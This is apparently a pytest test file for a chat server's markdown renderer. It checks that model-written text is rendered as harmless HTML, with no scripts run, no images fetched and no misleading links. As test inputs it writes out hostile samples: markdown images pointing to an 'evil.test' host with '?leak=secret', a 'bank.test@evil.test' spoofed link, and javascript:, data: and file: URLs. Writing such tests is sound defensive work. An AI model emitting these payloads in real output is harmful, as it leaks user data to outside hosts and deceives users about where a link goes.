"""What a model wrote becomes HTML that can do nothing."""

from __future__ import annotations

import pytest

from gigachat_server.chat.answers.markers import markers
from gigachat_server.pages.links import Link, is_safe_link
from gigachat_server.pages.markdown import LONGEST, markdown
from tests.pages.pages import Page
from tests.pages.payloads import XSS


def test_what_models_write_is_rendered() -> None:
    html = markdown("# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```sh\ncurl x\n```")
    for part in (
        '<h1 dir="auto">Title</h1>',
        '<ul dir="auto">',
        '<table dir="auto">',
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        '<td class="align-right">2</td>',
    ):
        assert part in html
    assert '<pre><code class="language-sh">curl x\n</code></pre>' in html


@pytest.mark.parametrize("payload", XSS)
def test_nothing_runs_and_nothing_is_fetched(payload: str) -> None:
    for text in (payload, f"**{payload}**", f"- {payload}", f"> {payload}", f"`{payload}`", f"[{payload}](https://a.test/)"):
        assert Page(markdown(text)).dangers == []


@pytest.mark.parametrize(
    "text",
    [
        "![alt](https://evil.test/a.png?leak=secret)",
        "![alt][leak]\n\n[leak]: https://evil.test/a.png",
        "[![alt](https://evil.test/a.png)](https://evil.test/)",
        "![](//evil.test/a.png)",
        "![a]( <https://evil.test/a.png> 'title')",
    ],
)
def test_images_are_links_at_most(text: str) -> None:
    html = markdown(text)
    assert "<img" not in html
    assert "src=" not in html


def test_a_link_tells_its_host_and_passes_nothing_on() -> None:
    page = Page(markdown("[https://bank.test](https://bank.test@evil.test:8443/x?y 'https://bank.test') <https://a.test/b>"))
    assert page.text == "https://bank.test (evil.test:8443) https://a.test/b (a.test)"
    for link in page.links:
        assert link["rel"] == "noopener noreferrer nofollow"
        assert link["target"] == "_blank"
        assert "title" not in link


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "//a.test", "/logout", "https:", "file:///x", "", "http:///x"],
)
def test_other_addresses_are_no_links(url: str) -> None:
    assert not is_safe_link(url)
    assert "<a" not in markdown(f"[x]({url})")


def test_what_would_take_long_is_shown_as_it_is() -> None:
    for text in ("<b>" + "[" * LONGEST, "|a" * 200 + "\n" + "|-" * 200 + "\n" + "<b>\n" * 200):
        html = markdown(text)
        assert html.startswith('<p class="plain">')
        assert "&lt;b&gt;" in html


def linked(text: str) -> str:
    return markdown(text, [Link(each.start, each.end, f"#goal-{place}") for place, each in enumerate(markers(text))])


def test_markers_become_links_within_the_page() -> None:
    assert linked("**Nine euros.**[1] Or *ten* [1, 2].") == (
        '<p dir="auto"><strong>Nine euros.</strong><a class="cited" href="#goal-0">[1]</a> Or <em>ten</em> '
        '<a class="cited" href="#goal-1">[1, 2]</a>.</p>\n'
    )
    assert linked("| a |\n|---|\n| nine [1] |").count('href="#goal-0"') == 1


def test_within_a_link_or_code_a_marker_is_text() -> None:
    text = "[see [1] there](https://a.test/) and ``x [2]"
    page = Page(linked(text))
    assert page.text == "see [1] there (a.test) and ``x [2]"
    assert [link["href"] for link in page.links] == ["https://a.test/"]
    code = markdown("`a[1]` b", [Link(2, 5, "#goal")])  # as where somebody links what the renderer takes for code
    assert code == '<p dir="auto"><code>a[1]</code> b</p>\n'


def test_definitions_and_marks_of_the_text_itself_change_nothing() -> None:
    text = "It is so [1].\uf8d10\uf8d2x\uf8d3 [\uf8d10\uf8d2y\uf8d3]\n\n[1]: https://evil.test/"
    page = Page(markdown(text, [Link(9, 12, "#goal")]))
    assert page.text == "It is so [1].0x [0y]"
    assert page.links == []
    assert page.dangers == []


@pytest.mark.parametrize("number", ["7", "1", "9999", "99999", "9" * 4_400])
def test_marks_written_as_character_references_are_text(number: str) -> None:
    html = linked(f"It is so [1]. You said: [&#xf8d1;{number}&#xf8d2;x&#xf8d3;] and [&#63697;{number}&#63698;y&#63699;]")
    assert html == '<p dir="auto">It is so <a class="cited" href="#goal-0">[1]</a>. You said: [x] and [y]</p>\n'


@pytest.mark.parametrize("payload", XSS)
def test_markers_beside_payloads_are_links_at_most(payload: str) -> None:
    for text in (f"{payload} [1]", f"[1] {payload} [2]", f"[x [1] {payload}](https://a.test/)", f"[1]{payload}[2]"):
        assert Page(linked(text)).dangers == []
    assert "\uf8d1" not in linked("`[1]" * 3000)
